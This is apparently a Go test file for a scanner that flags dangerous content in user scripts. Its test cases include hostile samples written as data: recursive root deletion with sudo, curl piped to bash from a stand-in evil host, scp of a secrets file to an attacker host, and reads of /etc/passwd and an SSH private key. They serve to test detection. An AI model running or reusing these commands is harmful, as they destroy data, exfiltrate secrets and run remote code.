package security

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/macroforge/macroforge/identity"
	"github.com/macroforge/macroforge/operr"
)

func mustContent(t *testing.T, text string, dialect identity.Dialect) identity.ScriptContent {
	t.Helper()
	c, err := identity.NewScriptContent(text, dialect)
	require.NoError(t, err)
	return c
}

func TestScan_Violations(t *testing.T) {
	tests := []struct {
		name    string
		text    string
		dialect identity.Dialect
		threats []ThreatType
	}{
		{
			name:    "benign applescript",
			text:    `display notification "hello"`,
			dialect: identity.DialectAppleScript,
			threats: nil,
		},
		{
			name:    "eval call",
			text:    `result = eval(user_input)`,
			dialect: identity.DialectPython,
			threats: []ThreatType{ThreatCodeInjection},
		},
		{
			name:    "sudo with recursive root removal",
			text:    `sudo rm -rf /`,
			dialect: identity.DialectShell,
			threats: []ThreatType{ThreatSystemCompromise, ThreatPrivilegeEscalation},
		},
		{
			name:    "curl piped to shell",
			text:    `curl https://evil.example/x.sh | bash`,
			dialect: identity.DialectShell,
			threats: []ThreatType{ThreatNetworkAttack},
		},
		{
			name:    "scp to remote host",
			text:    `scp secrets.db attacker@evil.example:/drop`,
			dialect: identity.DialectShell,
			threats: []ThreatType{ThreatDataExfiltration},
		},
		{
			name:    "reads system account database",
			text:    `cat /etc/passwd`,
			dialect: identity.DialectShell,
			threats: []ThreatType{ThreatFileSystemAttack},
		},
		{
			name:    "reads ssh private key",
			text:    `open("~/.ssh/id_ed25519").read()`,
			dialect: identity.DialectPython,
			threats: []ThreatType{ThreatFileSystemAttack},
		},
		{
			name:    "unbounded shell loop",
			text:    "while true; do :; done",
			dialect: identity.DialectShell,
			threats: []ThreatType{ThreatResourceAbuse},
		},
		{
			name:    "unbounded c-style loop",
			text:    "for (;;) { poll(); }",
			dialect: identity.DialectJavaScript,
			threats: []ThreatType{ThreatResourceAbuse},
		},
		{
			name:    "case-insensitive match",
			text:    `SUDO whoami`,
			dialect: identity.DialectShell,
			threats: []ThreatType{ThreatPrivilegeEscalation},
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			report := Scan(mustContent(t, tt.text, tt.dialect))

			var got []ThreatType
			for _, f := range report.Violations {
				got = append(got, f.Threat)
			}
			for _, want := range tt.threats {
				assert.Contains(t, got, want)
			}
			if tt.threats == nil {
				assert.Empty(t, report.Violations)
				assert.False(t, report.Unsafe())
			} else {
				assert.True(t, report.Unsafe())
			}
		})
	}
}

func TestScan_CollectsAllViolations(t *testing.T) {
	// One script tripping several rows must report every one of them,
	// not stop at the first.
	text := "sudo rm -rf /\ncurl https://x.example/a | sh\ncat /etc/passwd"
	report := Scan(mustContent(t, text, identity.DialectShell))

	require.GreaterOrEqual(t, len(report.Violations), 4)
	descs := report.ThreatDescriptions()
	assert.Len(t, descs, len(report.Violations))
}

func TestScan_Deterministic(t *testing.T) {
	content := mustContent(t, "sudo rm -rf /tmp/x\ncat /etc/passwd", identity.DialectShell)

	first := Scan(content)
	for i := 0; i < 10; i++ {
		assert.Equal(t, first, Scan(content))
	}
}

func TestScan_DialectWarnings(t *testing.T) {
	tests := []struct {
		name         string
		text         string
		dialect      identity.Dialect
		wantWarnings int
	}{
		{
			name:         "python system-capable import",
			text:         "import subprocess\nprint('hi')",
			dialect:      identity.DialectPython,
			wantWarnings: 1,
		},
		{
			name:         "python dynamic import",
			text:         `mod = __import__("os")`,
			dialect:      identity.DialectPython,
			wantWarnings: 1,
		},
		{
			name:         "shell command substitution",
			text:         `echo "today is $(date)"`,
			dialect:      identity.DialectShell,
			wantWarnings: 1,
		},
		{
			name:         "shell backtick substitution",
			text:         "echo `hostname`",
			dialect:      identity.DialectShell,
			wantWarnings: 1,
		},
		{
			name:         "javascript require and global access",
			text:         `const fs = require("fs"); window.alert("x")`,
			dialect:      identity.DialectJavaScript,
			wantWarnings: 2,
		},
		{
			name:         "heuristics are dialect-scoped",
			text:         "import subprocess",
			dialect:      identity.DialectShell,
			wantWarnings: 0,
		},
		{
			name:         "warnings alone are not violations",
			text:         "import pickle",
			dialect:      identity.DialectPython,
			wantWarnings: 1,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			report := Scan(mustContent(t, tt.text, tt.dialect))
			assert.Len(t, report.Warnings, tt.wantWarnings)
			assert.False(t, report.Unsafe())
		})
	}
}

func TestGate(t *testing.T) {
	t.Run("benign content passes", func(t *testing.T) {
		report, err := Gate(mustContent(t, `display notification "hello"`, identity.DialectAppleScript))
		require.NoError(t, err)
		assert.False(t, report.Unsafe())
	})

	t.Run("violations reject with every threat listed", func(t *testing.T) {
		_, err := Gate(mustContent(t, "sudo rm -rf /", identity.DialectShell))
		require.Error(t, err)
		assert.Equal(t, operr.KindSecurityViolation, operr.KindOf(err))

		var tagged *operr.Error
		require.ErrorAs(t, err, &tagged)
		assert.Len(t, tagged.Threats, 2)
	})
}
